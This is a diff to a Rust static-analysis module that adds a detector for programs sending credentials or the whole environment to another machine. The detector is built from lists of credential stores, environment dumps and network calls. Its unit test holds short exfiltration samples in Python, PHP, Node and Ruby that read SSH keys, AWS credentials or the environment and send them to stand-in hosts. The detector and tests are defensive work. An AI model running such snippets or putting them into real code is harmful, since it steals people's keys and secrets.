@@ -18,6 +18,11 @@
 //! - commands run (`os.system`, `subprocess.*` with a shell string or an
 //!   argv list, `os.popen`, `child_process.exec/execSync/spawn`,
 //!   `IO.popen`, `system`) are read by the shell reader like any command;
+//! - credential sends: a program that reads a credential store (`~/.ssh`
+//!   keys, `~/.aws/credentials`, `.netrc`, a cluster or registry config)
+//!   or takes the whole environment (`shell_exec('env')`,
+//!   `JSON.stringify(process.env)`) and calls another machine
+//!   ([`sends_secrets`]);
 //! - reverse shells: a socket whose descriptors are given to a shell
 //!   (`socket` + `dup2` + `pty.spawn`/a shell), `net.connect` piped into a
 //!   spawned shell, `TCPSocket` + `popen`, `fsockopen` + `exec`.
@@ -183,6 +188,134 @@ pub(crate) fn read(code: &str) -> CodeFindings {
         }
     }
     out
+}
+
+/// Where credentials are kept (lower case, as the program writes them or
+/// as its names fold): key files, cloud, forge, registry and cluster
+/// credential files, password stores, browser cookie and login databases.
+const SECRET_STORES: &[&str] = &[
+    "/.ssh",
+    "'.ssh'",
+    "\".ssh\"",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    "/.aws",
+    "'.aws'",
+    "\".aws\"",
+    ".netrc",
+    ".git-credentials",
+    ".docker/config.json",
+    ".kube/config",
+    "/.config/gh",
+    "/.gnupg",
+    ".pgpass",
+    "login data",
+    "cookies.sqlite",
+];
+
+/// Calls that read a file's content or run a command that may read one.
+const CONTENT_READS: &[&str] = &[
+    ".read_text(",
+    ".read_bytes(",
+    ".read()",
+    "open(",
+    "readfilesync(",
+    "readfile(",
+    "file.read(",
+    "file_get_contents(",
+    "createreadstream(",
+    "system(",
+    "popen(",
+    "shell_exec(",
+    "subprocess.",
+    "tarfile",
+    "zipfile",
+    "make_archive(",
+];
+
+/// The whole environment taken as data (not one variable read by name).
+const ENV_DUMPS: &[&str] = &[
+    "shell_exec('env')",
+    "shell_exec(\"env\")",
+    "shell_exec('printenv')",
+    "`env`",
+    "`printenv`",
+    "dict(os.environ)",
+    "os.environ.copy()",
+    "json.dumps(os.environ",
+    "str(os.environ)",
+    "os.environ.items()",
+    "json.stringify(process.env)",
+    "object.entries(process.env)",
+    "getenv()",
+    "env.to_h",
+    "env.to_a",
+    "%env)",
+];
+
+/// Calls that reach the network from a program.
+const NETWORK_CALLS: &[&str] = &[
+    "requests.post(",
+    "requests.put(",
+    "requests.get(",
+    "httpx.",
+    "urllib.request.",
+    "urlopen(",
+    "http.client",
+    "fetch(",
+    "axios",
+    "https.request(",
+    "http.request(",
+    "file_get_contents('http",
+    "file_get_contents(\"http",
+    "curl_init(",
+    "net::http",
+    "uri.open",
+    "smtplib",
+    "sendall(",
+    "curl ",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "http::tiny",
+    "lwp::",
+];
+
+/// Whether `lower` (a program, lower case) names a URL or an address on
+/// another machine: a scheme and a host that is not this machine's.
+fn names_remote_host(lower: &str) -> bool {
+    lower.match_indices("://").take(64).any(|(at, _)| {
+        let host: String = lower[at + 3..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':'))
+            .collect();
+        let host = host.split(':').next().unwrap_or("");
+        !host.is_empty() && !matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0" | "[")
+    })
+}
+
+/// A program that reads a credential store (or takes the whole
+/// environment) and calls the network with a host of another machine:
+/// `Path.home() / '.ssh'` … `p.read_text()` … `urlopen(Request('https://…',
+/// data=…))`, `base64_encode(shell_exec('env'))` …
+/// `file_get_contents('http://…?d=' . $e)`. The same text without the
+/// network call, or calling only this machine, is no send.
+pub(crate) fn sends_secrets(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    if !NETWORK_CALLS.iter().any(|n| lower.contains(n)) || !names_remote_host(&lower) {
+        return false;
+    }
+    if ENV_DUMPS.iter().any(|d| lower.contains(d)) {
+        return true;
+    }
+    if !CONTENT_READS.iter().any(|r| lower.contains(r)) {
+        return false;
+    }
+    let in_store = |t: &str| SECRET_STORES.iter().any(|m| t.contains(m));
+    in_store(&lower)
+        || names_of(code)
+            .values()
+            .any(|v| in_store(&v.to_ascii_lowercase()))
 }
 
 /// Most functions whose calls are followed, and calls per function.
@@ -1759,6 +1892,31 @@ mod tests {
         assert!(read("import urllib.request\nsrc = urllib.request.urlopen('https://x.example/b.py').read().decode()\nexec(src)\n").remote_exec);
         assert!(!read("src = open('setup_helpers.py').read()\nexec(src)\n").remote_exec);
         assert!(!read("body = requests.get(url).text\nprint(body)\nexec('1')\n").remote_exec);
+    }
+
+    #[test]
+    fn credential_stores_sent_out() {
+        for program in [
+            "import pathlib, urllib.request\nd = pathlib.Path.home() / '.ssh'\nkeys = {p.name: p.read_text() for p in d.glob('id_*')}\nurllib.request.urlopen(urllib.request.Request('https://c.example/k', data=str(keys).encode()))\n",
+            "<?php\n$e = base64_encode(shell_exec('env'));\nfile_get_contents('http://203.0.113.77/p?d=' . urlencode($e));\n",
+            "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');\nfetch('https://collect.example/u', {method: 'POST', body: k});\n",
+            "fetch('https://hook.example/x', {method: 'POST', body: JSON.stringify(process.env)})",
+            "h = ENV['HOME']\nsystem('tar czf - ' + h + '/.ssh | curl -s -T - https://drop.example/up')\n",
+        ] {
+            assert!(sends_secrets(program), "{program}");
+        }
+        for program in [
+            // Read and printed, no network.
+            "import pathlib\nfor p in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    print(p.name, len(p.read_text()))\n",
+            // Sent to this machine only.
+            "import os, requests\nok = oct(os.stat(os.path.expanduser('~/.ssh')).st_mode)\nopen('/tmp/x')\nrequests.post('http://localhost:3000/status', json={'perm': ok})\n",
+            // One variable by name for an API: credentials used, not sent.
+            "import os, requests\nrequests.post('https://api.example.com/v1/jobs', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})\n",
+            // The environment printed locally.
+            "import os, json\nprint(json.dumps(dict(os.environ), indent=2))\n",
+        ] {
+            assert!(!sends_secrets(program), "{program}");
+        }
     }
 
     #[test]
